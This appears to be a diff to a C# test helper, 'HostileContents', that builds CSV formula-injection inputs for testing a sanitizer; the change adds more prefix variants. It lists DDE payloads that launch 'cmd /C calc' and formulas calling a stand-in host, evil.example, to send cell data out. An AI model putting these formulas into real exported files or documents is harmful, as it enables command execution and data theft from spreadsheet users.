@@ -52,7 +52,7 @@ internal static class HostileContents
 
     private static IEnumerable<string> Formulas =>
     [
-        .. from before in new[] { "", " ", "\t", "\r", "\n", "\r\n", "\0", "\u00A0", "\u200B", "\uFEFF", "\u202E", "\"", "; ", "x;", "x\t", "x\n", "x\r\n \t" }
+        .. from before in new[] { "", " ", "\t", "\r", "\n", "\r\n", "\0", "\u00A0", "\u200B", "\uFEFF", "\u202E", "\"", "; ", "x;", "x\t", "x\n", "x\r\n \t", "x;\"", "x\t \"\"", "x\n\" " }
            from formula in new[] { "=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1＋1", "＋1", "－1", "＠SUM(1)" }
            select before + formula,
         "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", "=HYPERLINK(\"https://evil.example?x=\"&A1,\"results\")", "=WEBSERVICE(\"https://evil.example\")", "=IMPORTXML(CONCAT(\"//evil.example?\",A2:E2),\"//a/a10\")",
